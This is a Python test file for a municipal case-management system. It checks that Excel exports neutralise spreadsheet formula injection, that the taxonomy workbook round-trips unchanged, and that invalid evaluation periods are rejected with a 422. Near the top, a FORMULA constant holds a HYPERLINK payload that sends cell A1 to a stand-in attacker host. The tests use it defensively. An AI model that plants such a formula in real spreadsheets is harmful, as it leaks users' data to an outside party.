"""The cases module's Excel exports write text that looks like a formula as text (OWASP: a leading
single quote), and the taxonomy export still imports back unchanged; the evaluation API's schema is
plain objects and a period the calendar cannot count is a 422, not a 500."""

from __future__ import annotations

import io

from openpyxl import load_workbook

from cityos.cases import admin_workbook, service
from cityos.cases.models import CaseCategory
from cityos.cases.schemas import ReportIn

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击")'


def _login(city, client, role):  # type: ignore[no-untyped-def]
    city.login(client, role)


def test_evaluation_workbook_writes_the_callers_text_as_text(city, db, client):  # type: ignore[no-untyped-def]
    with db.transaction() as s:
        service.load_default_taxonomy(session=s, actor=city.as_role("admin"))
    _login(city, client, "leader")
    r = client.get(
        "/api/v1/cases/evaluation.xlsx",
        params={"start": "2026-01-01", "end": "2026-12-31", "region": FORMULA},
    )
    assert r.status_code == 200, r.text
    ws = load_workbook(io.BytesIO(r.content)).active
    cells = [c.value for row in ws.iter_rows() for c in row if isinstance(c.value, str)]
    assert "'" + FORMULA in cells
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@"))]


def test_taxonomy_workbook_neutralises_and_imports_back_unchanged(city, db, client):  # type: ignore[no-untyped-def]
    admin_ = city.as_role("admin")
    with db.transaction() as s:
        service.load_default_taxonomy(session=s, actor=admin_)
        row = s.get(CaseCategory, "E0402")
        assert row is not None
        row.name, row.filing_condition = "-店外经营", FORMULA
    _login(city, client, "admin")
    r = client.get("/cases/admin/taxonomy.xlsx")
    assert r.status_code == 200, r.status_code
    ws = load_workbook(io.BytesIO(r.content))["categories"]
    values = [c.value for row in ws.iter_rows() for c in row]
    assert "'-店外经营" in values and "'" + FORMULA in values
    assert not [v for v in values if isinstance(v, str) and v.startswith(("=", "+", "-", "@"))]
    with db.transaction() as s:
        result = admin_workbook.import_xlsx(session=s, actor=admin_, data=r.content)
        row = s.get(CaseCategory, "E0402")
        assert row is not None and (row.name, row.filing_condition) == ("-店外经营", FORMULA)
    assert result.changes == 0, result


def test_evaluation_scores_are_objects_and_bad_periods_are_refused(city, db, client):  # type: ignore[no-untyped-def]
    with db.transaction() as s:
        service.load_default_taxonomy(session=s, actor=city.as_role("admin"))
        service.report_case(
            session=s,
            actor=city.as_role("dispatcher"),
            report=ReportIn(
                category_code="E0402", description="占道", channel="hotline", lon=118.3515, lat=35.0515
            ),
        )
    _login(city, client, "leader")
    doc = client.app.openapi()
    assert "prefixItems" not in str(doc["components"]["schemas"]["EvaluationOut"])
    r = client.get("/api/v1/cases/evaluation", params={"start": "2026-01-01", "end": "2026-12-31"})
    assert r.status_code == 200
    for score in r.json()["scores"].values():
        assert score is None or set(score) == {"score", "grade"}
    for start, end in (
        ("2026-01-01", "9999-12-31"),
        ("2026-12-31", "2026-01-01"),
        ("0001-01-01", "2026-01-01"),
    ):
        for path in ("/api/v1/cases/evaluation", "/api/v1/cases/evaluation.xlsx"):
            r = client.get(path, params={"start": start, "end": end})
            assert r.status_code == 422 and r.json()["error"]["code"] == "bad_period", (path, start, end)
    assert (
        client.get("/cases/evaluation", params={"start": "2026-01-01", "end": "9999-12-31"}).status_code
        == 200
    )
